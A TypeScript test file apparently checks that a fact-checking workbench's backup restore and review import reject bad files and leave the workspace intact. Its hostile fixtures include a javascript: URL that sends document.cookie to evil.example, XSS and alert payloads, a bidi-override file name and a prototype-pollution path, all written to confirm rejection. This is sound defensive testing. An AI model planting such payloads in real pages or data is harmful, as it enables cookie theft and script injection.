/**
 * The bad-input sweep, storage paths: "Restore workspace" (previewBackup,
 * restoreBackup in both modes) and "Import review" into the workspace
 * (importReview), fed empty, huge, binary, wrongly encoded, malformed-JSON,
 * wrong-schema and hostile files. Each gets a clear message and leaves the
 * workspace exactly as it was (every row of every table compared before and
 * after), with no failed save reported. The core paths are in
 * tests/core/bad-input.test.ts.
 */
import './backup-env';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { createTranslator } from '../../src-renderer/core/i18n';
import { buildJsonReport } from '../../src-renderer/core/report';
import { MAX_BACKUP_BYTES, previewBackup, restoreBackup } from '../../src-renderer/storage/backup';
import { describeBackupRefusal } from '../../src-renderer/ui/backup/refusal-message';
import { ALL_TABLES, type WorkbenchDb } from '../../src-renderer/storage/db';
import { importReview } from '../../src-renderer/storage/review-repo';
import { getSaveState } from '../../src-renderer/storage/save-status';
import { genevaSnapshot } from '../core/report/geneva-snapshot';
import { freshDb } from './helpers';

type Kind = 'empty' | 'huge' | 'binary' | 'wrong-encoding' | 'malformed-JSON' | 'wrong-schema' | 'hostile';

const en = createTranslator('en');
const backupText = readFileSync(path.resolve(__dirname, '../fixtures/db/v1-workspace.json'), 'utf8');
const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
const reviewText = buildJsonReport(genevaSnapshot());

async function sha256(text: string): Promise<string> {
  const d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
  return Array.from(new Uint8Array(d), (b) => b.toString(16).padStart(2, '0')).join('');
}

/** A crafted backup: edited payload, recomputed (valid) checksum. */
async function craftedBackup(edit: (tables: Map<string, Record<string, unknown>[]>) => void): Promise<string> {
  const file = JSON.parse(backupText) as { checksum: { value: string }; payload: { data: { data: { tableName: string; rows: Record<string, unknown>[] }[] } } };
  edit(new Map(file.payload.data.data.map((t) => [t.tableName, t.rows])));
  file.checksum.value = await sha256(JSON.stringify(file.payload));
  return JSON.stringify(file);
}

async function dump(db: WorkbenchDb): Promise<Record<string, unknown[]>> {
  const out: Record<string, unknown[]> = {};
  for (const t of ALL_TABLES) out[t] = await db.table(t).toArray();
  return out;
}

interface Case {
  readonly kind: Kind;
  readonly what: string;
  readonly input: () => Promise<string | Uint8Array> | string | Uint8Array;
  readonly message: RegExp;
}

const restoreCases: Case[] = [
  { kind: 'empty', what: 'an empty file', input: () => '', message: /^“f” is empty\.$/ },
  { kind: 'empty', what: 'only whitespace', input: () => '  \n\t ', message: /^“f” is empty\.$/ },
  { kind: 'huge', what: 'a file over the limit', input: () => new Uint8Array(MAX_BACKUP_BYTES + 1), message: /^“f” is too large to restore \(200 MB; the limit is 200 MB\)\.$/ },
  { kind: 'binary', what: 'a PNG', input: () => PNG, message: /^“f” is not UTF-8 text/ },
  { kind: 'binary', what: 'NUL bytes', input: () => new Uint8Array(64), message: /not valid JSON/ },
  { kind: 'wrong-encoding', what: 'the backup in UTF-16', input: () => Uint8Array.from(Buffer.from(`\ufeff${backupText}`, 'utf16le')), message: /^“f” is not UTF-8 text/ },
  { kind: 'wrong-encoding', what: 'the backup in Windows-1252', input: () => Uint8Array.from(Buffer.from(backupText, 'latin1')), message: /^“f” is not UTF-8 text/ },
  { kind: 'malformed-JSON', what: 'a truncated file', input: () => backupText.slice(0, 5000), message: /^“f” is cut short/ },
  { kind: 'malformed-JSON', what: 'a stray comma', input: () => backupText.replace('"format":', ',"format":'), message: /^“f” is not valid JSON/ },
  { kind: 'malformed-JSON', what: 'JSON with comments', input: () => `// my backup\n${backupText}`, message: /^“f” is not valid JSON/ },
  { kind: 'wrong-schema', what: 'a review export', input: () => reviewText, message: /is a review export, not a workspace backup/ },
  { kind: 'wrong-schema', what: 'a number', input: () => '42', message: /is not a workspace backup/ },
  { kind: 'wrong-schema', what: 'a header without payload', input: () => JSON.stringify({ format: 'factcheck-workbench-backup', formatVersion: 1, schemaVersion: 1, checksum: { algorithm: 'SHA-256', value: '00' } }), message: /is damaged: payload/ },
  { kind: 'wrong-schema', what: 'a newer format', input: () => backupText.replace('"formatVersion":1,', '"formatVersion":3,'), message: /backup format 3, newer than this app reads/ },
  { kind: 'wrong-schema', what: 'rows of the wrong shape', input: () => craftedBackup((t) => void (t.get('claims')![0]!['status'] = 'finished')), message: /in claims, record 1 has no valid “status”/ },
  { kind: 'wrong-schema', what: 'a type annotation that does not fit', input: () => craftedBackup((t) => void (t.get('claims')![0]!['tags'] = 'not-a-list')), message: /never stores \(in claims, record 1\)/ },
  { kind: 'hostile', what: 'a javascript: source address', input: () => craftedBackup((t) => void (t.get('sources')![1]!['url'] = 'javascript:fetch("https://evil.example/"+document.cookie)')), message: /holds an address that is not a web address \(in sources, record 2\)/ },
  { kind: 'hostile', what: 'a bidi-override in an archive address', input: () => craftedBackup((t) => void (t.get('sources')![0]!['archiveUrl'] = 'https://archive.example/\u202Egnp.exe')), message: /not a web address/ },
  { kind: 'hostile', what: 'a prototype-polluting type path', input: () => craftedBackup((t) => void Object.assign(t.get('settings')![0]!, { $types: { '__proto__.polluted': 'undef' } })), message: /never stores/ },
  { kind: 'hostile', what: 'an edited value without a new checksum', input: () => backupText.replace('Les Vérificateurs', '<img src=x onerror=alert(1)>'), message: /checksum does not match/ },
];

describe('bad-input sweep: "Restore workspace"', () => {
  let db: WorkbenchDb;
  beforeAll(async () => {
    db = await freshDb();
    expect(await restoreBackup(backupText, 'replace')).toMatchObject({ ok: true });
  });

  for (const c of restoreCases) {
    it(`${c.kind}: ${c.what} → a clear message, the workspace unchanged`, async () => {
      const before = await dump(db);
      const stateBefore = getSaveState().kind;
      const input = await c.input();
      const preview = await previewBackup(input);
      expect(preview.ok).toBe(false);
      if (preview.ok) return;
      const message = describeBackupRefusal(preview, en, 'f');
      expect(message).toMatch(c.message);
      expect(message).not.toMatch(/undefined|\[object |\{\w+\}/);
      for (const mode of ['replace', 'merge'] as const) expect(await restoreBackup(input, mode)).toMatchObject({ ok: false, code: preview.code });
      expect(await dump(db)).toEqual(before);
      expect(getSaveState().kind).toBe(stateBefore);
      expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    });
  }
});

describe('bad-input sweep: "Import review" into the workspace', () => {
  let db: WorkbenchDb;
  beforeAll(async () => {
    db = await freshDb();
    expect(await restoreBackup(backupText, 'replace')).toMatchObject({ ok: true });
  });

  const reviewWith = (edit: (o: Record<string, unknown>) => void) => () => {
    const o = JSON.parse(reviewText) as Record<string, unknown>;
    edit(o);
    return JSON.stringify(o);
  };
  const cases: Case[] = [
    { kind: 'empty', what: 'an empty file', input: () => '', message: /^This file is not valid JSON/ },
    { kind: 'huge', what: '8 MB of nesting', input: () => '{"a":'.repeat(1_600_000), message: /not valid JSON|not a review/ },
    { kind: 'binary', what: 'a PNG', input: () => new TextDecoder('latin1').decode(PNG), message: /^This file is not valid JSON/ },
    { kind: 'wrong-encoding', what: 'UTF-16 decoded as UTF-8', input: () => new TextDecoder().decode(Buffer.from(reviewText, 'utf16le')), message: /^This file is not valid JSON/ },
    { kind: 'malformed-JSON', what: 'a truncated export', input: () => reviewText.slice(0, reviewText.length / 2), message: /^This file is not valid JSON/ },
    { kind: 'wrong-schema', what: 'a workspace backup', input: () => backupText, message: /^This file is not a review exported by the workbench\.$/ },
    { kind: 'wrong-schema', what: 'a claim pointing outside its text', input: reviewWith((o) => ((o['claims'] as { target: { position: { end: number } } }[])[0]!.target.position.end = 10_000_000)), message: /^The review file is damaged/ },
    { kind: 'hostile', what: 'a javascript: source address', input: reviewWith((o) => ((o['sources'] as { url: string }[])[0]!.url = 'javascript:alert(1)')), message: /is not a web address \(http or https\)/ },
    { kind: 'hostile', what: 'a bidi-override article address', input: reviewWith((o) => ((o['article'] as { sourceUrl?: string }).sourceUrl = 'https://example.org/\u202Egnp.exe')), message: /is not a web address/ },
  ];

  for (const c of cases) {
    it(`${c.kind}: ${c.what} → a clear message, the workspace unchanged`, async () => {
      const before = await dump(db);
      const result = await importReview(String(await c.input()), 'en');
      expect(result.ok).toBe(false);
      if (result.ok) return;
      expect(result.message).toMatch(c.message);
      expect(result.message.length).toBeLessThan(400);
      expect(await dump(db)).toEqual(before);
    });
  }

  it('the valid export it was made from is imported (the sweep tests refusals, not a broken importer)', async () => {
    expect(await importReview(reviewText, 'en')).toMatchObject({ ok: true });
  });
});
